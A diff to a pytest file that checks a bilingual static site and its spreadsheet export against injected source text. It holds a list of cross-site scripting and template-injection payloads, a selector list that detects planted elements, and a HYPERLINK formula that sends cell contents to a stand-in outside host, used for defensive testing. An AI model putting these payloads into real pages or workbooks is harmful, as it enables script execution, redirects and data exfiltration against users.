@@ -8,13 +8,16 @@ from __future__ import annotations
 
 import csv
 import os
+import re
 import shutil
 import subprocess
 import sys
 from pathlib import Path
 
+import jinja2
 import openpyxl
 import pytest
+from nbconvert.filters import markdown2html
 
 ROOT = Path(__file__).resolve().parents[2]
 OUTSIDE = "outside.example.test"
@@ -26,11 +29,15 @@ PAYLOADS = (
     "</td></tr></table></figure></main><h1 class=planted>x</h1>",
     f"</script><script>{RUN}//",
     f'<meta http-equiv=refresh content="0;url=http://{OUTSIDE}/b">',
-    f"![x](http://{OUTSIDE}/c.png) [x](javascript:{RUN})",
+    f"![x](http://{OUTSIDE}/c.png) [x](<javascript:{RUN}>)",
     f'<base href="http://{OUTSIDE}/"><form action="http://{OUTSIDE}/d"><input autofocus onfocus="{RUN}"></form>',
     "{{ 7 * 7 }} {% raw %} ${x} %s {region.__class__}",
     "$x^2$ `a` **b** _c_ # d | 1.",
     '=HYPERLINK("http://outside.example.test/?"&A2)',
+)
+ELEMENTS = (
+    *(".planted", "base", "form[action]", "meta[http-equiv=refresh]", "[onerror], [onload], [onfocus]"),
+    *(f'a[href*="{OUTSIDE}"]', 'a[href^="javascript:"]', 'img[src^="http"]'),
 )
 PAGES = ("funding", "quality", "profile-occitanie")
 DESCRIPTION = """[file]
@@ -103,6 +110,7 @@ def planted(tmp_path_factory) -> Path:
 
 def open_unguarded(open_page, path: Path, folder: Path, guarded: bool) -> object:
     text = path.read_text(encoding="utf-8")
+    assert text.count("Content-Security-Policy") == 1
     if not guarded:
         text = text.replace("Content-Security-Policy", "x-nothing")
     copy = folder / path.name
@@ -110,15 +118,20 @@ def open_unguarded(open_page, path: Path, folder: Path, guarded: bool) -> object
     return open_page(copy)
 
 
+def find_work(opened: object) -> list[str]:
+    """Return what the payloads did to a page: each runs, loads, moves or parts it."""
+    opened.wait_for_timeout(200)
+    if opened.evaluate("location.protocol") != "file:":
+        return ["moved"]
+    ran = ["ran"] if opened.evaluate("document.documentElement.dataset.ran") else []
+    return [*ran, *(element for element in ELEMENTS if opened.locator(element).count())]
+
+
 @pytest.mark.parametrize("guarded", [True, False], ids=["with-policy", "without-policy"])
 @pytest.mark.parametrize("page", [f"{language}/{name}.html" for language in ("fr", "en") for name in (*PAGES, "index")])
 def test_no_text_of_a_source_runs_loads_or_parts_a_page(planted, open_page, tmp_path, page, guarded):
     opened = open_unguarded(open_page, planted / page, tmp_path, guarded)
-    opened.wait_for_timeout(200)
-    assert opened.evaluate("document.documentElement.dataset.ran") is None
-    for element in (".planted", "base", "form[action]", "meta[http-equiv=refresh]", "[onerror], [onload], [onfocus]"):
-        assert opened.locator(element).count() == 0
-    assert opened.locator(f'a[href*="{OUTSIDE}"], a[href^="javascript:"], img[src^="http"]').count() == 0
+    assert find_work(opened) == []
     assert opened.locator("h1").count() == 1
 
 
@@ -141,10 +154,25 @@ def test_no_text_of_a_source_is_a_formula_or_a_link_in_the_workbook_of_the_editi
         assert any(PAYLOADS[0] in str(cell.value) for cell in cells)
 
 
-@pytest.mark.parametrize("payload", [PAYLOADS[number] for number in (0, 1, 2, 7)])
-def test_where_nothing_is_escaped_a_payload_is_seen_at_work(open_page, tmp_path, payload):
-    control = tmp_path / "control.html"
-    control.write_text(f'<!doctype html><html lang="fr"><title>x</title><p title="{payload}">{payload}', "utf-8")
-    opened = open_page(control, check=False)
-    opened.wait_for_timeout(200)
-    assert opened.evaluate("document.documentElement.dataset.ran") == "1"
+@pytest.mark.parametrize(
+    ("number", "work"),
+    [
+        *((0, "ran"), (1, "ran"), (2, "ran"), (3, ".planted"), (4, "ran"), (5, "moved")),
+        *((6, 'img[src^="http"]'), (6, 'a[href^="javascript:"]'), (7, "ran"), (7, "form[action]"), (7, "base")),
+    ],
+)
+def test_where_nothing_is_escaped_a_payload_is_seen_at_work(open_page, tmp_path, number, work):
+    control, payload = tmp_path / "control.html", PAYLOADS[number]
+    places = f'<p title="{payload}">{payload}{markdown2html(payload)}<script>var told = "{payload}"</script>'
+    control.write_text(f'<!doctype html><html lang="fr"><title>x</title>{places}', "utf-8")
+    assert work in find_work(open_page(control, check=False))
+
+
+def test_where_nothing_is_escaped_a_template_a_text_in_markdown_and_a_formula_are_seen_at_work():
+    template, marked, formula = PAYLOADS[8:]
+    with pytest.raises(jinja2.TemplateSyntaxError, match="raw"):
+        jinja2.Template(template)
+    assert marked not in re.sub(r"<[^>]+>", "", markdown2html(marked))
+    cell = openpyxl.Workbook().active["A1"]
+    cell.value = formula
+    assert cell.data_type == "f"
